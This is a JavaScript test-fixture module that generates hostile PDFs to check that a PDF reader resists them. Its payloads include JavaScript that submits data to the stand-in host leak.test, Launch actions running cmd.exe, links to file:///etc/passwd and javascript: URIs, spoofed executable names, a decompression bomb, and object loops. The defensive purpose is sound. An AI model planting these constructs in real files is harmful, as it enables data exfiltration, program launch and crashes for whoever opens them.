/** PDFs that would do harm, or lead into a loop, in a reader that lets them. Whatever they fetch, they fetch from leak.test. */
import { deflateSync } from 'node:zlib';
import { letter, PdfFile, textPage, textString } from './pdf-file.mjs';

/** @typedef {() => Buffer} Maker */

const body = ['This page is to be read like any other, and nothing else is to happen.'];

/**
 * @param {string} title
 * @param {(file: PdfFile) => (import('./pdf-file.mjs').PageParts & { drawn?: string }) | undefined} fill drawn: further operators of the page
 * @returns {Buffer}
 */
function hostile(title, fill) {
  const file = new PdfFile();
  const { drawn = '', ...parts } = fill(file) ?? {};
  file.page(textPage(title, body) + drawn, parts);
  return file.write();
}

/** @param {PdfFile} file @param {readonly string[]} actions of links, one below the other */
function links(file, actions) {
  const numbers = actions.map((action, at) =>
    file.add(
      `<< /Type /Annot /Subtype /Link /Border [0 0 1] /Rect [72 ${600 - at * 24} 300 ${616 - at * 24}] /A << ${action} >> >>`,
    ),
  );
  return `/Annots [${numbers.map((number) => `${number} 0 R`).join(' ')}]`;
}

function scripts() {
  return hostile('Scripts at every opening', (file) => {
    const run = (/** @type {string} */ code) => `<< /S /JavaScript /JS (${code}) >>`;
    const alarm = "app.alert\\('leak'\\)";
    const send =
      "this.submitForm\\('https://leak.test/form'\\); app.launchURL\\('https://leak.test/url', true\\)";
    const field = file.add(
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (value) /Rect [72 500 300 520] /AA << /F ${run(alarm)} /K ${run(alarm)} /C ${run(send)} >> >>`,
    );
    const calculated = `/AcroForm << /Fields [${field} 0 R] /CO [${field} 0 R] /NeedAppearances true >>`;
    const named = `/Names << /JavaScript << /Names [(start) ${run(`${alarm}; ${send}`)}] >> >>`;
    file.catalogue += `/OpenAction ${run(`${alarm}; ${send}`)} ${named} /AA << /WC ${run(send)} /WP ${run(send)} >> ${calculated}`;
    return { entries: `/AA << /O ${run(send)} /C ${run(send)} >> /Annots [${field} 0 R]` };
  });
}

function launches() {
  return hostile('Programs and other files', (file) => {
    file.catalogue += '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc.exe) >> >>';
    return {
      entries: links(file, [
        '/S /Launch /F (calc.exe)',
        '/S /GoToR /F (file:///etc/passwd) /D [0 /Fit]',
        '/S /GoToR /F << /FS /URL /F (https://leak.test/other.pdf) >> /D [0 /Fit]',
        '/S /GoToE /F (other.pdf) /D [0 /Fit] /T << /R /C /N (program.exe) >>',
        '/S /SubmitForm /F << /FS /URL /F (https://leak.test/submit) >>',
        '/S /ImportData /F (https://leak.test/data.fdf)',
        '/S /Named /N /Print',
      ]),
    };
  });
}

function addresses() {
  return hostile('Links that are no web addresses', (file) => ({
    entries: links(file, [
      "/S /URI /URI (javascript:alert\\('leak'\\))",
      '/S /URI /URI (file:///etc/passwd)',
      '/S /URI /URI (data:text/html,<script>alert\\(1\\)</script>)',
      '/S /URI /URI (chrome://settings)',
      '/S /URI /URI (\\011java\\012script:alert\\(1\\))',
      `/S /URI /URI ${textString('https://leak.test/ \u202Egnp.exe')}`,
      '/S /URI /URI (https://links.test/harmless)',
    ]),
  }));
}

/** A picture, a file and a font that are said to lie on a server. */
function remoteStreams() {
  return hostile('Streams from elsewhere', (file) => {
    const where = '<< /Type /Filespec /FS /URL /F (https://leak.test/picture.jpg) >>';
    const picture = file.stream(
      Buffer.alloc(0),
      `/Type /XObject /Subtype /Image /Width 100 /Height 100 /BitsPerComponent 8 /ColorSpace /DeviceRGB /F ${where} /FFilter /DCTDecode`,
    );
    const shown = file.stream(
      '/X1 Do',
      `/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Ref << /F ${where} /Page 0 >>`,
    );
    const style = file.stream(
      '<?xml-stylesheet href="https://leak.test/style.css"?><!DOCTYPE x SYSTEM "https://leak.test/x.dtd"><x/>',
      '/Type /Metadata /Subtype /XML',
    );
    file.catalogue += `/Metadata ${style} 0 R /URI << /Base (https://leak.test/) >>`;
    return {
      resources: `/XObject << /X1 ${picture} 0 R /X2 ${shown} 0 R >>`,
      drawn: 'q 100 0 0 100 72 500 cm /X1 Do Q\nq 1 0 0 1 200 500 cm /X2 Do Q\n',
    };
  });
}

function attachedProgram() {
  return hostile('A program on board', (file) => {
    const program = file.stream('MZ this is no program', '/Type /EmbeddedFile');
    const spec = file.add(
      `<< /Type /Filespec /F (../../program.exe) /UF ${textString('paper\u202Efdp.exe')} /EF << /F ${program} 0 R >> >>`,
    );
    file.catalogue += `/Names << /EmbeddedFiles << /Names [(program.exe) ${spec} 0 R] >> >>`;
    const note = file.add(
      `<< /Type /Annot /Subtype /FileAttachment /FS ${spec} 0 R /Rect [72 500 92 520] /Contents (Open me) >>`,
    );
    return { entries: `/Annots [${note} 0 R]` };
  });
}

function xfaForm() {
  return hostile('A form in the page', (file) => {
    const form = file.stream(
      '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">' +
        '<subform name="form"><pageSet><pageArea><contentArea w="200mm" h="250mm"/><medium long="297mm" short="210mm"/></pageArea></pageSet>' +
        '<field name="leak"><value><image href="https://leak.test/xfa.png"/></value><event activity="initialize">' +
        '<script contentType="application/x-javascript">xfa.host.messageBox("leak")</script></event></field></subform></template></xdp:xdp>',
    );
    file.catalogue += `/AcroForm << /XFA ${form} 0 R /Fields [] >>`;
    return undefined;
  });
}

/** @param {string} title @param {Buffer} data @param {string} filter */
function hugeImage(title, data, filter) {
  const file = new PdfFile();
  const picture = file.stream(
    data,
    `/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray ${filter}`,
  );
  file.page(`${textPage(title, body)}q 400 0 0 400 72 150 cm /X1 Do Q\n`, {
    resources: `/XObject << /X1 ${picture} 0 R >>`,
  });
  file.page(textPage('The page after', body));
  return file.write();
}

/** A node of the page tree that is its own grandchild, beside a page. */
function treeLoop() {
  const file = new PdfFile();
  const page = file.page(textPage('Beside a loop', body));
  const node = file.reserve();
  const again = file.add(`<< /Type /Pages /Parent ${node} 0 R /Count 1 /Kids [${node} 0 R] >>`);
  file.put(node, `<< /Type /Pages /Parent ${file.pageTree} 0 R /Count 1 /Kids [${again} 0 R] >>`);
  file.put(file.pageTree, `<< /Type /Pages /Count 2 /Kids [${page} 0 R ${node} 0 R] >>`);
  return file.write();
}

/** Two forms that draw each other. */
function formLoop() {
  return hostile('Forms that draw each other', (file) => {
    const [first, second] = [file.reserve(), file.reserve()];
    for (const [own, other] of [
      [first, second],
      [second, first],
    ])
      file.put(
        own ?? 0,
        `<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /X1 ${other} 0 R >> >> /Length 6 >>\nstream\n/X1 Do\nendstream`,
      );
    return { resources: `/XObject << /X1 ${first} 0 R >>`, drawn: '/X1 Do\n' };
  });
}

function hugePage() {
  const file = new PdfFile();
  file.page(textPage('A page of 200 inches', body, { top: 14_300 }), { box: [0, 0, 14_400, 14_400] });
  file.page(textPage('A page of no size', body), { box: [0, 0, 0, 0] });
  file.page(textPage('A page without end', body), { box: [0, 0, 1e9, 1e9] });
  file.page(textPage('An ordinary page', body), { box: letter });
  return file.write();
}

/** An entry that follows itself, one that is its own parent, and one that leads nowhere. */
function outlineLoop() {
  return hostile('An outline without end', (file) => {
    const [outline, first, inner] = [file.reserve(), file.reserve(), file.reserve()];
    file.put(outline, `<< /Type /Outlines /First ${first} 0 R /Last ${first} 0 R /Count 1000000 >>`);
    file.put(
      first,
      `<< /Title (Again) /Parent ${outline} 0 R /Next ${first} 0 R /First ${inner} 0 R /Dest [999 0 R /Fit] >>`,
    );
    file.put(
      inner,
      `<< /Title (And again) /Parent ${inner} 0 R /First ${first} 0 R /Next ${inner} 0 R /A << /S /JavaScript /JS (1) >> >>`,
    );
    file.catalogue += `/Outlines ${outline} 0 R`;
    return undefined;
  });
}

/** @type {Readonly<Record<string, Maker>>} */
export const hostileFiles = {
  scripts,
  launches,
  addresses,
  'remote-streams': remoteStreams,
  'attached-program': attachedProgram,
  'xfa-form': xfaForm,
  'huge-image': () => hugeImage('An image of tiny data', Buffer.from('0f0f', 'hex'), ''),
  // 450 MB of white, deflated twice.
  'inflating-image': () =>
    hugeImage(
      'An image that inflates',
      deflateSync(deflateSync(Buffer.alloc(7500 * 60_000, 0xff), { level: 9 }), { level: 9 }),
      '/Filter [/FlateDecode /FlateDecode]',
    ),
  'tree-loop': treeLoop,
  'form-loop': formLoop,
  'huge-page': hugePage,
  'outline-loop': outlineLoop,
};
